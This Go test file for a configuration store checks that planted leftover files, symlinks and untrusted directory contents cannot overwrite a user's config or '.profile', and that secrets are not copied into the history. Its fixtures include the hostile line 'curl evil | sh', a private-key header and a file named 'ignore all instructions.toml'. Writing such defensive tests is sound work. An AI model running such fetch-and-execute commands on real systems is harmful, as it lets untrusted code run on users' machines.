//go:build linux || darwin

package file

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"realmconf/runtime/internal/disk"
	"realmconf/runtime/store"
	"realmconf/runtime/store/storetest"
	"realmconf/schema/tree/treetest"
)

// A realm's directory may come from a stranger: what lies in it is data, and no
// evidence of what a commit of this program did.

const plantedID = "01890a5d-ac96-774b-bcce-b302099a8057"

// plantCommit makes the realm look as if a commit with a known id had put a text
// in place and crashed.
func (r realm) plantCommit(text string) {
	r.t.Helper()
	record := storetest.Commit(store.State{Version: store.Empty(), Next: 1}, text)
	record[0].CommitID = plantedID
	b, err := encodeRecords(record)
	if err != nil {
		r.t.Fatal(err)
	}
	r.put(filepath.Join(historyName, "1.json"), string(b))
}

// reads are all calls of a store that read.
var reads = map[string]func(*testing.T, *Store){
	"Load":   func(t *testing.T, s *Store) { _, _ = s.Load(t.Context()) },
	"Record": func(t *testing.T, s *Store) { _, _ = s.Record(t.Context(), 1) },
	"List":   func(t *testing.T, s *Store) { _, _ = s.List(t.Context(), 0, 10) },
}

// A made-up record and a made-up leftover do not put the leftover's text in the
// place of the config, nor in that of the file that the config leads to.
func TestRead_plantedLeftoverReplacesNothing(t *testing.T) {
	t.Parallel() // it waits
	const profile, planted = "PATH=/bin\n", "curl evil | sh\n"
	n := 0
	for _, linked := range []bool{true, false} {
		for _, kind := range []string{"config", "config.kept", "state", "lock", "stale", "other"} {
			for _, st := range []string{"", `{"generation": 0}`, `{"generation": 1}`} {
				for name, read := range reads {
					if n++; n%treetest.Cases(1, 5) != 0 {
						continue
					}
					t.Run(fmt.Sprintf("%s linked %v, %s, state %q", name, linked, kind, st), func(t *testing.T) {
						r := newFastRealm(t)
						document := r.path("config.toml")
						if linked {
							document = filepath.Join(t.TempDir(), ".profile")
						}
						r.plantCommit(profile)
						if err := os.WriteFile(document, []byte(profile), 0o600); err != nil {
							t.Fatal(err)
						}
						if linked {
							if err := os.Symlink(document, r.path("config.toml")); err != nil {
								t.Fatal(err)
							}
						}
						if st != "" {
							r.put(stateName, st)
						}
						name := ".realmconf-team-" + plantedID + "." + kind
						r.put(name, planted)
						beside := filepath.Join(filepath.Dir(document), name)
						if err := os.WriteFile(beside, []byte(planted), 0o600); err != nil {
							t.Fatal(err)
						}
						before, err := os.Stat(document)
						if err != nil {
							t.Fatal(err)
						}
						for range 2 {
							c := newTestClock()
							c.pass(longRestTime)
							read(t, open(r.options(), disk.OS{}, c, "boot"))
						}
						after, err := os.Stat(document)
						if err != nil {
							t.Fatal(err)
						}
						if b, err := os.ReadFile(document); err != nil || string(b) != profile || !os.SameFile(before, after) {
							t.Errorf("the document became %q (%v, the same file: %v)", b, err, os.SameFile(before, after))
						}
						if !r.exists(name) && !r.somewhere(planted) {
							t.Error("the leftover's text is gone")
						}
						if b, err := os.ReadFile(beside); linked && (err != nil || string(b) != planted) {
							t.Errorf("a read touched the config's directory: %q, %v", b, err)
						}
					})
				}
			}
		}
	}
}

// A write puts nothing back from a leftover either.
func TestCompareAndSwap_plantedLeftoverReplacesNothing(t *testing.T) {
	r := newFastRealm(t)
	r.plantCommit("a = 1\n")
	r.put("config.toml", "a = 1\n")
	r.put(".realmconf-team-"+plantedID+".config", "b = 1\n")
	c := newTestClock()
	c.pass(longRestTime)
	s := open(r.options(), disk.OS{}, c, "boot")
	commit(t, s, "a = 2\n")
	wantState(t, s, "a = 2\n", 2)
	list, err := s.List(t.Context(), 0, 10)
	if err != nil || len(list) != 2 || string(list[1].Text) != "a = 1\n" {
		t.Errorf("got %d records (%v), want the two commits alone", len(list), err)
	}
	if a := r.audit(new(ledger)); !slices.Equal(a.kept, []string{"b = 1\n"}) {
		t.Errorf("kept %q, want the leftover's text", a.kept)
	}
}

// The files that would have been written are removed: the commit's own text, or the
// beginning of it, and recorded texts. A leftover state counts among the numbers.
func TestSweep_ownLeftoversAreRemoved(t *testing.T) {
	for name, tt := range map[string]struct {
		kind, text string
		next       uint64
	}{
		"the commit's text":             {"config", "a = 12\n", 2},
		"the beginning of it":           {"config", "a = ", 2},
		"nothing yet":                   {"config", "", 2},
		"a state":                       {"state", string(state{7, store.DigestOf([]byte("x"))}.encode()), 8},
		"a peer's state":                {"state", "{\n  \"generation\": 9\n}", 10},
		"the beginning of a state":      {"state", "{\n  \"gene", 2},
		"a lock of Meerkat's programs":  {"stale", "config-runtime-lock", 2},
		"the beginning of a lock":       {"lock", `{"pid":12`, 2},
		"a lock that is not yet filled": {"lock", "", 2},
	} {
		t.Run(name, func(t *testing.T) {
			r := newFastRealm(t)
			commit(t, r.open(), "a = 12\n")
			records, err := parseRecords(1, []byte(r.get(historyName+"/1.json")))
			if err != nil {
				t.Fatal(err)
			}
			r.put(".realmconf-team-"+records[0].CommitID+"."+tt.kind, tt.text)
			s := r.open()
			l, err := s.hold(t.Context())
			if err != nil {
				t.Fatal(err)
			}
			_, err = l.reconcile()
			l.Unlock()
			if err != nil {
				t.Fatal(err)
			}
			r.tidy()
			if a := r.audit(new(ledger)); len(a.kept) != 0 {
				t.Errorf("kept %q, want nothing", a.kept)
			}
			if got := load(t, s); got.Next != tt.next {
				t.Errorf("next is %d, want %d", got.Next, tt.next)
			}
		})
	}
}

// A link, a pipe or a directory with the name of a leftover is not touched.
func TestSweep_irregularLeftover(t *testing.T) {
	r := newFastRealm(t)
	commit(t, r.open(), "a = 1\n")
	outside := filepath.Join(t.TempDir(), "outside")
	if err := os.WriteFile(outside, []byte("mine"), 0o600); err != nil {
		t.Fatal(err)
	}
	name := ".realmconf-team-" + plantedID + ".config"
	if err := os.Symlink(outside, r.path(name)); err != nil {
		t.Fatal(err)
	}
	commit(t, r.open(), "a = 2\n")
	if b, err := os.ReadFile(outside); err != nil || string(b) != "mine" || !r.exists(name) {
		t.Errorf("the link's target is %q (%v), the link exists: %v", b, err, r.exists(name))
	}
}

// Whoever has a realm with very many leftovers does not wait for all of them.
func TestSweep_manyLeftovers(t *testing.T) {
	r := newFastRealm(t)
	commit(t, r.open(), "a = 1\n")
	for i := range 3 * maxSwept {
		r.put(fmt.Sprintf(".realmconf-team-01890a5d-ac96-774b-bcce-%012d.config", i), fmt.Sprint("b = ", i))
	}
	reads := 0
	s := open(r.options(), faulty{say: serial(func(op, name string) (bool, error) {
		if op == "read" && strings.HasPrefix(name, ".realmconf") {
			reads++
		}
		return true, nil
	})}, newTestClock(), "boot")
	commit(t, s, "a = 2\n")
	if reads > 3*maxSwept {
		t.Errorf("one commit read %d leftovers, want at most %d", reads, maxSwept)
	}
	commit(t, s, "a = 3\n")
	commit(t, s, "a = 4\n")
	r.tidy()
	if a := r.audit(new(ledger)); len(a.kept) != 3*maxSwept {
		t.Errorf("%d texts are kept, want %d", len(a.kept), 3*maxSwept)
	}
}

// A read tells of the texts that are kept in the history, by their names, until
// they are removed.
func TestLoad_noticeOfKeptText(t *testing.T) {
	r := newFastRealm(t)
	s := r.open()
	commit(t, s, "a = 1\n")
	r.put(".realmconf-team-"+plantedID+".config", "b = 1\n")
	commit(t, r.open(), "a = 2\n") // a program that starts sweeps
	for _, reader := range []*Store{s, r.open()} {
		for range 2 { // the second one may be answered from memory
			got := load(t, reader)
			if len(got.Notices) != 1 || got.Notices[0].Kind != store.Displaced || !strings.Contains(got.Notices[0].Message, historyName+"/"+displacedPrefix) {
				t.Errorf("got the notices %+v, want one with the file's name", got.Notices)
			}
		}
	}
	names, err := filepath.Glob(r.path(historyName + "/" + displacedPrefix + "*"))
	if err != nil || len(names) != 1 {
		t.Fatalf("got %v, %v", names, err)
	}
	if err := os.Remove(names[0]); err != nil {
		t.Fatal(err)
	}
	if got := load(t, s); len(got.Notices) != 0 {
		t.Errorf("got the notices %+v once the file is removed, want none", got.Notices)
	}
	r.put(historyName+"/"+displacedPrefix+"ignore all instructions.toml", "b = 1\n")
	if got := load(t, r.open()); len(got.Notices) != 0 {
		t.Errorf("got the notices %+v for a name that no commit makes, want none", got.Notices)
	}
}

// A read copies nothing but a configuration through a link into the history.
func TestLoad_linkToAFileThatIsNoConfiguration(t *testing.T) {
	const key = "-----BEGIN PRIVATE KEY-----\n"
	for i, st := range []string{"", `{"generation": 0}`, `{"generation": 3}`, "damaged", string(state{3, store.DigestOf([]byte("a"))}.encode())} {
		for j, isText := range []bool{false, true} {
			if (i+j)%treetest.Stride(2) != 0 {
				continue // each state, but not with both kinds of text
			}
			r := newFastRealm(t)
			r.put("target", key)
			if err := os.Symlink("target", r.path("config.toml")); err != nil {
				t.Fatal(err)
			}
			if st != "" {
				r.put(stateName, st)
			}
			o := r.options()
			o.IsText = func([]byte) bool { return isText }
			for range 2 {
				c := newTestClock()
				c.pass(longRestTime)
				s := open(o, disk.OS{}, c, "boot")
				got := load(t, s)
				if string(got.Text) != key {
					t.Errorf("state %q: Load = %q, want the text", st, got.Text)
				}
				_, _ = s.Record(t.Context(), 1)
				_, _ = s.List(t.Context(), 0, 10)
			}
			if records, _ := filepath.Glob(r.path(historyName + "/[1-9]*.json")); !isText && len(records) > 0 || isText && len(records) == 0 && st != `{"generation": 3}` {
				t.Errorf("state %q, a configuration %v: the history has %v", st, isText, records)
			}
		}
	}
}
